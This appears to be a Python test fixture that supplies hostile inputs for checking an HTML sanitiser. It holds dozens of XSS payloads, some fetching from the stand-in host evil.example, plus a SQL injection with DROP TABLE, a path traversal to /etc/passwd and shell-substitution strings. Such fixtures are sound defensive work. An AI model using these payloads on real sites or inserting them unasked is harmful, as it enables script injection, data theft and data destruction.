"""Hostile copy: a few attacks of our own, which always run, and the public collections beside the project, if there."""

from __future__ import annotations

import json
from pathlib import Path

SHARED = Path(__file__).resolve().parents[3] / "shared" / "hostile"

# Each tries to call `alert` or to fetch from evil.example, by another door of the browser.
OWN = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a.png 1x' src=x>",
    "<IMG SRC=j&#x41vascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>go</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/a.swf'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';</style>",
    "<p style='background:url(//evil.example/b.png)'>words</p>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='\x01javascript:alert(1)'>click</a>",
    "<a href='&#106;avascript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href='vbscript:alert(1)'>click</a>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<form><button formaction='javascript:alert(1)'>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=//evil.example/p.png></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>moving</marquee>",
    "<p onmouseover=alert(1)>over</p>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<table background='//evil.example/t.png'><tr><td>cell</td></tr></table>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "<p>\u202egnp.x\u202c <img src=x onerror=alert(1)></p>",
)

STRINGS = (
    "undefined",
    "0 OR 1=1; DROP TABLE stories --",
    "../../../../etc/passwd",
    "Größe ß ẞ İ ı ſ",
    "田中さんにあげて下さい",
    "👩🏽‍🚀 and 🏳️‍🌈 at the pad",
    "הָיְתָה testالصفحات",
    "T̗̘h̖e n̠a̗m̖e",
    "1/0 and 100% & more <less>",
    "$HOME `ls` %s %d {0}",
    "‘quoted’ “words” – and … more",
    "a b c",
)


def attacks() -> list[str]:
    """The public collection, or nothing."""
    return [one["html"] for one in _lines("xss.jsonl")]


def strings() -> list[str]:
    """The public list of naughty strings, or nothing."""
    return [one["text"] for one in _lines("strings.jsonl")]


def _lines(name: str) -> list[dict[str, str]]:
    file = SHARED / name
    if not file.is_file():
        return []
    return [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines() if line.strip()]
